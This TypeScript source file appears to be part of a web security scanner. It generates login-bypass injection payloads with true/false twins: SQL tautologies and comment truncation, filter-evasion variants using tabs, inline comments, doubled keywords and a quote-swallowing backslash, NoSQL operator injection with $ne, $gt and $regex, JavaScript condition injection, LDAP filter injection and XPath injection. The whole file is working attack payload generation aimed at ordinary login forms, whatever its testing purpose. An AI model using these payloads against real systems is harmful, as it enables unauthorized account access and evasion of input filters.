import type { LoginChange } from './entrance.ts';
import { type Credential, type Login, loginAction, nobody } from './login.ts';

type SentCredentials = { name?: Credential; password?: Credential };

/** A change that is evaluated: its twin differs in what it evaluates to, and in nothing else. */
function evaluated(login: Login, what: string, changed: SentCredentials, twin: SentCredentials): LoginChange[] {
  const base = nobody(login);
  const send = ({ name = base.name, password = base.password }: SentCredentials) => loginAction(login, name, password);
  const [one, other] = [send(changed), send(twin)];
  // Where there is no field for it, a change changes nothing.
  const isNone = one && other && JSON.stringify(one) === JSON.stringify(other);
  const sent = { ...base, ...changed };
  return one && other && !isNone ? [{ what, changed: one, twin: other, isEvaluated: true, sent }] : [];
}

/** A condition that always holds, or never, in a field behind a value that nobody has. */
function conditionIn(
  login: Login,
  field: 'name' | 'password',
  write: (value: string, isTrue: boolean) => string,
): LoginChange[] {
  const value = nobody(login)[field];
  const where = field === 'name' ? 'the user name' : 'the password';
  const changes = evaluated(
    login,
    `a condition that always holds in ${where}`,
    { [field]: write(value, true) },
    { [field]: write(value, false) },
  );
  return field === 'name' ? changes : changes.map((change) => ({ ...change, isOfPassword: true }));
}

const fields = ['name', 'password'] as const;
const quotes = ["'", '"'] as const;

/**
 * Ways around a login whose statement holds the values as text. Conditions end where the first row is found; what follows a quote
 * is a comment, or closes the quote. Upper case keeps them from being XPath.
 */
export function sqlChanges(login: Login): LoginChange[] {
  const compare = (isTrue: boolean) => `‹int›=‹int›${isTrue ? '' : '1'}`;
  const known = (quote: string): LoginChange[] =>
    login.isMail
      ? []
      : evaluated(
          login,
          `the rest of the statement turned into a comment behind the name "${login.likelyName}"`,
          { name: `${login.likelyName}${quote}-- -` },
          { name: `‹nonce›${quote}-- -` },
        );
  const conditions = quotes.flatMap((quote) =>
    fields.flatMap((field) => [
      ...['', ')'].flatMap((end) =>
        [' LIMIT 1', ''].flatMap((limit) =>
          conditionIn(login, field, (value, isTrue) => `${value}${quote}${end} OR ${compare(isTrue)}${limit}-- -`),
        ),
      ),
      ...conditionIn(
        login,
        field,
        (value, isTrue) => `${value}${quote} OR ${quote}‹int›${quote}=${quote}‹int›${isTrue ? '' : '1'}`,
      ),
      ...conditionIn(login, field, (value, isTrue) => `${value}${quote}||${compare(isTrue)}#`),
    ]),
  );
  return [...conditions.slice(0, 1), ...known("'"), ...conditions.slice(1), ...known('"'), ...filteredChanges(login)];
}

/**
 * The same without what filters look for: spaces, "or", signs of comments, "=". Two fields compare with what fits any text (SQLite),
 * or with a difference of texts, which is 0 as they are (MySQL). A comment that never ends is one for SQLite, and a condition between
 * two others needs none, whatever is compared with the password.
 */
function filteredChanges(login: Login): LoginChange[] {
  const { name, password } = nobody(login);
  const inBoth = (what: string, whenTrue: string, whenFalse: string): LoginChange[] =>
    evaluated(
      login,
      what,
      { name: name + whenTrue, password: password + whenTrue },
      { name: name + whenFalse, password: password + whenFalse },
    );
  const inName = (write: (compared: string) => string): LoginChange[] =>
    conditionIn(login, 'name', (value, isTrue) => value + write(isTrue ? '‹int›<‹int›1' : '‹int›1<‹int›'));
  const cut = (sign: string): LoginChange[] =>
    login.isMail && !login.likelyName.includes('@')
      ? []
      : evaluated(
          login,
          `the rest of the statement cut off behind the name "${login.likelyName}"`,
          { name: `${login.likelyName}'${sign}` },
          { name: `‹nonce›'${sign}` },
        );
  return [
    ...inBoth('a pattern that fits anything behind both values', "'GLOB'*", "'GLOB'q‹int›"),
    ...inBoth('a number that texts are equal to in both values', "'-'0", "'-'1"),
    ...inName((compared) => `'\toR\t${compared}\tLIMIT\t1--\t-`),
    ...inName((compared) => `'/**/oR/**/${compared}/**/LIMIT/**/1#`),
    ...inName((compared) => `'/**/oR/**/${compared}/**/LIMIT/**/1/*`),
    ...inName((compared) => `'\toR\t${compared}\toR\t'b'<'a`),
    ...inName((compared) => `' OORR ${compared} LIMIT 1-- -`),
    ...cut('#'),
    ...cut('/*'),
    ...takenQuote(login),
  ];
}

/** A backslash takes the quote behind the name (MySQL), so that the password stands outside of a text, without a quote of its own. */
function takenQuote(login: Login): LoginChange[] {
  const { name, password } = nobody(login);
  const sent = (compared: string) => ({ name: `${name}\\`, password: ` OR ${compared} LIMIT 1# ${password}` });
  return evaluated(
    login,
    'a backslash that takes the quote behind the user name, and a condition that always holds as the password',
    sent('‹int›<‹int›1'),
    sent('‹int›1<‹int›'),
  ).map((change) => ({ ...change, isOfPassword: true }));
}

/**
 * Operators of document databases, and conditions in JavaScript.
 * @param names of accounts besides the likeliest: who demands a text for the name is let in by the operator in the password alone
 */
export function nosqlChanges(login: Login, names: readonly string[] = []): LoginChange[] {
  const operators = (what: string, whenTrue: Credential, whenFalse: Credential): LoginChange[] => [
    ...evaluated(
      login,
      `${what} in both fields`,
      { name: whenTrue, password: whenTrue },
      { name: whenFalse, password: whenFalse },
    ),
    ...evaluated(
      login,
      `the name "${login.likelyName}" and ${what} as the password`,
      { name: login.likelyName, password: whenTrue },
      { name: login.likelyName, password: whenFalse },
    ),
  ];
  const member = (name: string, value: string): Credential => ({ member: name, value });
  const further = names.filter((name) => name !== login.likelyName);
  const shown = (what: string, whenTrue: Credential, whenFalse: Credential): LoginChange[] =>
    further.flatMap((name) =>
      evaluated(
        login,
        `the name "${name}" and ${what} as the password`,
        { name, password: whenTrue },
        { name, password: whenFalse },
      ).map((change) => ({ ...change, isOfPassword: true })),
    );
  const scripts = quotes.flatMap((quote) =>
    fields.flatMap((field) =>
      conditionIn(
        login,
        field,
        (value, isTrue) => `${value}${quote}||‹int›===‹int›${isTrue ? '' : '1'}||${quote}a${quote}===${quote}b`,
      ),
    ),
  );
  return [
    ...operators(
      'the operator "is not" with a value that nobody has',
      member('$ne', '‹nonce3›'),
      // Small document stores know no `$eq`.
      { member: '$in', value: '‹nonce3›', isList: true },
    ),
    ...operators('the operator "greater than" with nothing', member('$gt', ''), member('$gt', '~~~‹nonce3›')),
    ...operators('a pattern that fits anything', member('$regex', '.'), member('$regex', '^‹nonce3›$')),
    ...shown('the operator "greater than" with nothing', member('$gt', ''), member('$gt', '~~~‹nonce3›')),
    ...scripts,
  ];
}

/** Filters of directories and expressions of XML. Names of operators and functions distinguish them from SQL. */
export function directoryChanges(login: Login): LoginChange[] {
  const filters = [
    ...evaluated(
      login,
      'an asterisk in both fields',
      { name: '*', password: '*' },
      { name: '‹nonce›*', password: '‹nonce2›*' },
    ),
    ...evaluated(
      login,
      'a filter that closes early in the user name',
      { name: '*)(objectClass=*))(&(objectClass=q‹int›' },
      { name: '‹nonce›)(objectClass=*))(&(objectClass=q‹int›' },
    ),
  ];
  const expressions = quotes.flatMap((quote) =>
    fields.flatMap((field) =>
      conditionIn(
        login,
        field,
        (value, isTrue) =>
          `${value}${quote} or starts-with(${quote}‹int›${isTrue ? '1' : ''}${quote},${quote}‹int›${isTrue ? '' : '1'}${quote}) or ${quote}a${quote}=${quote}b`,
      ),
    ),
  );
  return [...filters, ...expressions];
}
